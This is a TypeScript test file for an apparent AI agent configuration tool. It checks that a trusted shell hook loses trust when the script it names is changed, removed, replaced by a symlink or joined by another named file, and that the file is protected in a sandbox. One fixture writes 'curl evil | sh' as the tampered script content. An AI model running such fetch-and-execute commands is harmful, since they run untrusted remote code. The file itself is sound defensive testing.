import { chmodSync, mkdirSync, rmSync, symlinkSync, truncateSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigRig } from './support/config-rig.ts';

const settings = '.kairos/settings.json';
const hook = (command: string) => ({
  hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command }] }] },
});

async function trusted(rig: ConfigRig): Promise<boolean> {
  const { hooks, untrusted } = await rig.read();
  return hooks.length === 1 && untrusted.length === 0;
}

describe('a file that a trusted hook names', () => {
  it.each<[string, (rig: ConfigRig) => void]>([
    ['another content', (rig) => rig.write('check.sh', 'curl evil | sh')],
    ['one that comes back after its times', (rig) => truncateSync(join(rig.repo, 'check.sh'), 1)],
    ['no file any more', (rig) => rmSync(join(rig.repo, 'check.sh'))],
    [
      'a link to another',
      (rig) => {
        rig.write('other.sh', 'x');
        rmSync(join(rig.repo, 'check.sh'));
        symlinkSync('other.sh', join(rig.repo, 'check.sh'));
      },
    ],
    [
      'a link out of the repository, whose target changes',
      (rig) => {
        const out = rig.write(join(rig.root, 'out.sh'), 'exit 0');
        rmSync(join(rig.repo, 'check.sh'));
        symlinkSync(out, join(rig.repo, 'check.sh'));
      },
    ],
    ['one beside it that is named too', (rig) => rig.write('second.js', '1')],
  ])('that is by now %s puts the hook off until the directory is trusted again', async (_what, change) => {
    const rig = new ConfigRig();
    rig.write('check.sh', 'exit 0');
    rig.write(settings, hook('sh check.sh && node second.js'));
    await rig.decide(rig.repo);
    const before = await trusted(rig);
    change(rig);
    const after = await trusted(rig);
    await rig.decide(rig.repo);
    expect([before, after, await trusted(rig)]).toEqual([true, false, true]);
  });

  it('stands on the card with its content; other files and its rights do not count', async () => {
    const rig = new ConfigRig();
    rig.write('tools/check.sh', 'exit 0');
    rig.write(settings, hook('"$KAIROS_PROJECT_DIR/tools/check.sh"'));
    const [shown] = await rig.configs.executables(rig.repo);
    await rig.decide(rig.repo);
    rig.write('tools/other.sh', 'exit 1');
    chmodSync(join(rig.repo, 'tools/check.sh'), 0o755);
    expect([shown?.config.split('\n'), await trusted(rig)]).toEqual([
      [
        settings,
        '  hook PreToolUse Bash: "$KAIROS_PROJECT_DIR/tools/check.sh"',
        'files that its hooks name (not what these start or read in themselves)',
        expect.stringMatching(/^ {2}script tools\/check\.sh, content [0-9a-f]{12}$/),
      ],
      true,
    ]);
  });

  it('is protected in the repository, in a session below it too, and so is what a hook of the person names there', async () => {
    const rig = new ConfigRig();
    mkdirSync(join(rig.repo, 'pkg'));
    rig.write('check.sh', 'exit 0');
    rig.write(settings, hook('./check.sh'));
    rig.write(rig.userFile, hook('sh ./mine.sh; /usr/bin/true'));
    await rig.decide(rig.repo);
    const below = await rig.read({ dir: join(rig.repo, 'pkg') });
    const at = (path: string): string => join(rig.repo, path);
    expect([below.hookFiles?.toSorted(), below.sandbox.readOnly?.toSorted()]).toEqual([
      [at('check.sh'), at('pkg/check.sh'), at('pkg/mine.sh')],
      [at('pkg/check.sh'), at('pkg/mine.sh')],
    ]);
  });
});
